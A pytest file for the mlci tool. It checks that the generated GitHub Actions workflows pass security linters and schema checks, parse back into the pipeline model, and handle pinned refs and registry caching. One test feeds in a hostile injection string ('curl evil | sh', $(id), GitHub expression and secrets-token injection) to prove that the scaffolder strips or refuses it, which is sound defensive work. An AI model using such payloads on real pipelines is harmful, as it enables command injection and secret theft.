"""GitHub Actions output: the option matrix (its goldens are the provider kit's, tests/provider_kit.py)
proven by zizmor (pedantic), actionlint with shellcheck and GitHub's JSON schemas, then parsed back
into the pipeline model."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import REPO, scaffold

from mlci import pipeline
from mlci.config import load_project
from mlci.providers.github.actions import ACTIONS, action_pins
from mlci.providers.github.render import permissions

sys.path.insert(0, str(REPO / "scripts"))
from update_golden import COMBOS, SHA, combo_name, render_combo

BIN = Path(sys.executable).parent


def tool(name: str) -> str:
    found = BIN / name
    if found.exists():
        return str(found)
    which = shutil.which(name)
    if which is None and sys.version_info < (3, 11):
        pytest.skip(f"{name} needs Python 3.11+ (the test extra installs it there)")
    if which is None:
        pytest.fail(f"{name} is not installed; install the test extra: pip install -e '.[test]'")
    return which


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str, str], Path]:
    """The option matrix, rendered exactly as scripts/update_golden.py renders it."""
    root = tmp_path_factory.mktemp("matrix")
    return {combo: render_combo(root, *combo) for combo in COMBOS}


def github_files(project: Path) -> dict[str, str]:
    return {p.relative_to(project).as_posix(): p.read_text() for p in sorted((project / ".github").rglob("*.yml"))}


def zizmor(*targets: str) -> subprocess.CompletedProcess[str]:
    """zizmor's strictest offline audit; without a GitHub token it can never go online."""
    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN", "ZIZMOR_GITHUB_TOKEN")}
    command = [
        tool("zizmor"),
        "--offline",
        "--persona",
        "pedantic",
        "--strict-collection",
        "--format",
        "plain",
        "--no-progress",
        *targets,
    ]
    return subprocess.run(command, capture_output=True, text=True, env=env, check=False)


def test_zizmor_pedantic_finds_nothing(rendered: dict[tuple[str, str, str], Path]) -> None:
    done = zizmor(*(str(p / ".github") for p in rendered.values()), str(REPO / "actions"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "No findings to report" in done.stdout + done.stderr


def test_actionlint_with_shellcheck_finds_nothing(rendered: dict[tuple[str, str, str], Path]) -> None:
    workflows = [str(p) for project in rendered.values() for p in (project / ".github" / "workflows").glob("*.yml")]
    done = subprocess.run(
        [tool("actionlint"), "-shellcheck", tool("shellcheck"), *workflows], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_github_json_schemas_accept_everything(rendered: dict[tuple[str, str, str], Path]) -> None:
    workflows = [str(p) for project in rendered.values() for p in (project / ".github" / "workflows").glob("*.yml")]
    actions = [str(p) for project in rendered.values() for p in (project / ".github" / "actions").rglob("action.yml")]
    actions += [str(p) for p in (REPO / "actions").rglob("action.yml")]
    for schema, files in (("vendor.github-workflows", workflows), ("vendor.github-actions", actions)):
        done = subprocess.run(
            [tool("check-jsonschema"), "--builtin-schema", schema, *files], capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_shellcheck_every_action_run_block(tmp_path: Path) -> None:
    """actionlint does not lint composite actions: check their scripts ourselves."""
    scripts = []
    for action in sorted((REPO / "actions").rglob("action.yml")):
        for index, step in enumerate(yaml.safe_load(action.read_text())["runs"]["steps"]):
            if "run" in step:
                assert "${{" not in step["run"], f"{action}: expression inside run:"
                script = tmp_path / f"{action.parent.name}-{index}.sh"
                script.write_text("#!/usr/bin/env bash\nset -eo pipefail\n" + step["run"])
                scripts.append(str(script))
    # Every action of the registry plus setup, one run: block each: none escapes the check.
    assert {Path(script).stem.rsplit("-", 1)[0] for script in scripts} == {spec.name for spec in ACTIONS} | {"setup"}
    assert len(scripts) == len(ACTIONS) + 1
    done = subprocess.run(
        [tool("shellcheck"), "--shell=bash", "--severity=style", *scripts], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout


def graph_of(workflow: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """What a workflow says about each job, in the pipeline model's terms."""
    graph = {}
    for job_id, job in workflow["jobs"].items():
        stage_steps = [s for s in job["steps"] if "mlci-" in s.get("uses", "") or "/actions/" in s.get("uses", "")]
        action = None
        for step in stage_steps:
            ref = step["uses"].split("@")[0]
            name = ref.rsplit("/", 1)[-1].removeprefix("mlci-")
            if name != "setup":
                action = name
        graph[job_id] = {
            "needs": tuple(job.get("needs", ())),
            "permissions": job["permissions"],
            "environment": job.get("environment"),
            "action": action,
            "with": next(
                (s.get("with", {}) for s in stage_steps if action and s["uses"].split("@")[0].endswith(action)), {}
            ),
            "timeout": job["timeout-minutes"],
            "if": job.get("if"),
            "outputs": job.get("outputs", {}),
        }
    return graph


# GitHub's event names for the pipeline model's trigger kinds.
TRIGGER_KIND = {"pull_request": "pull_request", "push": "push", "workflow_dispatch": "manual", "schedule": "schedule"}


def triggers_of(workflow: dict[str, Any]) -> tuple[pipeline.Trigger, ...]:
    """A workflow's `on:` read back as the pipeline model's triggers, in the order written."""
    found: list[pipeline.Trigger] = []
    for event, spec in workflow[True].items():  # YAML 1.1 reads the key `on` as True
        kind = TRIGGER_KIND[event]  # a KeyError names an event the model has no kind for
        if kind == "schedule":
            found += [pipeline.Trigger("schedule", cron=entry.pop("cron")) for entry in spec]
            assert spec == [{}] * len(spec), f"{event}: keys other than cron: {spec}"
            continue
        spec = dict(spec or {})
        found.append(pipeline.Trigger(kind, branches=tuple(spec.pop("branches", ()))))
        assert spec == {}, f"{event}: filters the model does not know: {spec}"
    return tuple(found)


# Each stage job's `with:` inputs, written out: the options of its mlci command, and the
# run-scoped hand-over (an output of a job it needs, never an alias). Other jobs pass none.
STAGE_INPUTS = {
    "register": {"run-id": "${{ needs.train.outputs.run-id }}"},
    "deploy-staging": {"env": "staging", "version": "${{ needs.register.outputs.model-version }}"},
    "deploy-production": {"env": "production", "version": "${{ needs.deploy-staging.outputs.model-version }}"},
}


@pytest.mark.parametrize("combo", COMBOS, ids=[combo_name(c) for c in COMBOS])
def test_workflows_parse_back_into_the_pipeline_model(
    rendered: dict[tuple[str, str, str], Path], combo: tuple[str, str, str]
) -> None:
    from mlci.providers.github.actions import ACTION_FOR_STAGE

    project = rendered[combo]
    config = load_project(project).config
    model = pipeline.build(config)
    files = {p.stem: yaml.safe_load(p.read_text()) for p in (project / ".github" / "workflows").glob("*.yml")}
    # Every pipeline of the model, plus the weekly `mlci upgrade` pull request (not a pipeline).
    assert set(files) == {p.id for p in model} | {"mlci-upgrade"}
    for pipe in model:
        workflow = files[pipe.id]
        assert workflow["permissions"] == {}
        assert triggers_of(workflow) == pipe.triggers
        expected = {
            job.id: {
                "needs": job.needs,
                "permissions": permissions(job),
                "environment": job.environment,
                "action": ACTION_FOR_STAGE[job.stage.name] if job.stage else None,
                "with": STAGE_INPUTS.get(job.id, {}),
                "timeout": job.timeout_minutes,
                "if": "always()"
                if job.gate
                else (f"github.ref == 'refs/heads/{job.only_on_branch}'" if job.only_on_branch else None),
                "outputs": {name: f"${{{{ steps.stage.outputs.{name} }}}}" for name in pipe.outputs_of(job.id)},
            }
            for job in pipe.jobs
        }
        assert graph_of(workflow) == expected
    databricks_jobs = [j for p in model for j in p.jobs if any(c.name == "databricks" for c in j.credentials)]
    assert bool(databricks_jobs) == (combo[0] == "databricks")
    for job in databricks_jobs:
        assert permissions(job) == {"contents": "read", "id-token": "write"}  # OIDC only where Databricks is used
    assert ("retrain" in files) == (combo[2] == "retrain")


def test_hostile_answers_never_reach_a_script(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile = (
        'x"; curl evil | sh; echo "${{ github.event.issue.title }}" $(id) `id` run: evil'  # one line (test_answers)
    )
    assert (
        scaffold("safe-name", tmp_path, "--data", f"description={hostile}", "--data", "author=${{ secrets.TOKEN }}")
        == 0
    )
    project = tmp_path / "safe-name"
    text = "\n".join(github_files(project).values())
    assert "github.event.issue" not in text and "secrets.TOKEN" not in text and "curl evil" not in text
    for workflow in (project / ".github" / "workflows").glob("*.yml"):
        for job in yaml.safe_load(workflow.read_text())["jobs"].values():
            for step in job["steps"]:
                assert "${{" not in step.get("run", "")
    # A value that does reach a workflow (the install spec) is refused when a shell or GitHub
    # would interpret it.
    assert scaffold("other-name", tmp_path, "--data", "mlci_install=mlci ${{ github.event.issue.title }}") == 2
    err = capsys.readouterr().err
    assert re.search(r"--data mlci_install: 'ci.mlci_install' is 'mlci \$\{\{ github.event.issue.title \}\}'", err), err
    assert not (tmp_path / "other-name").exists()


def test_remote_actions_need_a_pinned_ref(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def new(*data: str) -> int:
        answers = [
            arg for item in ("actions=remote", "mlci_repository=mlci-dev/mlci", *data) for arg in ("--data", item)
        ]
        return scaffold("remote-name", tmp_path, *answers)

    assert new() == 2
    assert "ci.actions: remote needs ci.mlci_ref" in capsys.readouterr().err
    assert new("mlci_ref=v1") == 2
    assert "'ci.mlci_ref' is 'v1', which does not match ^[0-9a-f]{40}$" in capsys.readouterr().err
    assert new(f"mlci_ref={SHA}") == 0


def test_own_workflows_are_audited_clean_and_self_test_every_action() -> None:
    own = sorted(str(p) for p in (REPO / ".github" / "workflows").glob("*.yml"))
    assert [Path(p).name for p in own] == ["ci.yml", "release.yml"]
    done = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *own],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    done = zizmor(str(REPO / ".github"))
    assert done.returncode == 0, done.stdout + done.stderr
    done = subprocess.run(
        [tool("actionlint"), "-shellcheck", tool("shellcheck")], cwd=REPO, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    workflow = yaml.safe_load((REPO / ".github" / "workflows" / "ci.yml").read_text())
    used = {
        s["uses"].removeprefix("$/actions/")
        for s in workflow["jobs"]["self-test"]["steps"]
        if s.get("uses", "").startswith("$/actions/")
    }
    assert used == {p.parent.name for p in (REPO / "actions").glob("*/action.yml")}
    assert set(workflow["jobs"]["gate"]["needs"]) == set(workflow["jobs"]) - {"gate"}


def step_named(workflow: dict[str, Any], job: str, name: str) -> dict[str, Any]:
    return next(s for s in workflow["jobs"][job]["steps"] if s["name"] == name)


def run_step(step: dict[str, Any], cwd: Path, env: dict[str, str]) -> tuple[str, str, str]:
    """A rendered step's script run by bash, as a runner runs it: (stdout, GITHUB_OUTPUT, summary)."""
    output, summary = cwd / "github-output", cwd / "step-summary"
    output.write_text("")
    summary.write_text("")
    done = subprocess.run(
        ["bash", "-e", "-o", "pipefail", "-c", step["run"]],
        cwd=cwd,
        env={"PATH": os.environ["PATH"], "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary), **env},
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout, output.read_text(), summary.read_text()


@pytest.mark.parametrize("pipeline_id", ["cd", "retrain"])
def test_a_registry_save_never_replaces_a_newer_runs_registry(
    rendered: dict[tuple[str, str, str], Path], tmp_path: Path, pipeline_id: str
) -> None:
    """H1: a re-run of an old run's job carries that run's registry; it is saved only while the
    newest kept registry is the one the run's train restored, or one this run saved itself."""
    project = rendered[("local", "vendored", "retrain")]
    workflow = yaml.safe_load((project / ".github" / "workflows" / f"{pipeline_id}.yml").read_text())
    say = step_named(workflow, "train", "Say which registry this run uses")
    assert say["env"] == {"MATCHED": "${{ steps.registry.outputs.cache-matched-key }}"}
    run_step(say, tmp_path, {"MATCHED": "mlci-registry-main-100-1-deploy-production"})
    assert (tmp_path / ".mlci" / "registry-key").read_text() == "mlci-registry-main-100-1-deploy-production\n"
    for job in ("register", "deploy-staging", "deploy-production"):
        steps = workflow["jobs"][job]["steps"]
        names = [s["name"] for s in steps]
        at = names.index("Keep the registry for the next run")
        assert names[at - 2 : at] == ["Find the newest kept registry", "Decide whether to keep this registry"], job
        lookup, decide, save = steps[at - 2 : at + 1]
        assert lookup["uses"] == f"actions/cache/restore@{action_pins()['actions/cache']['sha']}"  # pinned
        assert lookup["with"]["lookup-only"] is True
        assert lookup["with"]["restore-keys"] == "mlci-registry-main-"
        assert lookup["with"]["key"] == save["with"]["key"]
        assert save["if"] == "steps.keep-registry.outputs.keep == 'true'"
        assert decide["env"] == {
            "NEWEST": "${{ steps.newest-registry.outputs.cache-matched-key }}",
            "THIS_RUN": "mlci-registry-main-${{ github.run_id }}-",
        }
        assert "${{" not in decide["run"]
        this_run = {"THIS_RUN": "mlci-registry-main-300-"}
        for newest in (
            "mlci-registry-main-100-1-deploy-production",  # the one train restored
            "mlci-registry-main-300-1-register",  # saved by this run
            "mlci-registry-main-300-2-deploy-staging",  # saved by an earlier attempt of this run
            "",  # none kept at all (evicted): nothing newer to lose
        ):
            assert run_step(decide, tmp_path, {**this_run, "NEWEST": newest})[1] == "keep=true\n", (job, newest)
        newer = "mlci-registry-main-3000-1-register"  # run 3000, not 300
        stdout, output, summary = run_step(decide, tmp_path, {**this_run, "NEWEST": newer})
        restored = "mlci-registry-main-100-1-deploy-production"
        message = (
            f"a newer registry exists (cache {newer}; this run started from {restored}),"
            " so this re-run's registry was not kept"
        )
        assert (output, stdout, summary) == (
            "",
            f"::warning title=Registry not kept::{message}\n",
            f"Registry: {message}\n",
        )
    (tmp_path / ".mlci" / "registry-key").write_text("\n")  # train found no kept registry
    stdout, output, _ = run_step(decide, tmp_path, {**this_run, "NEWEST": newer})
    assert output == "" and "this run started from an empty registry)" in stdout
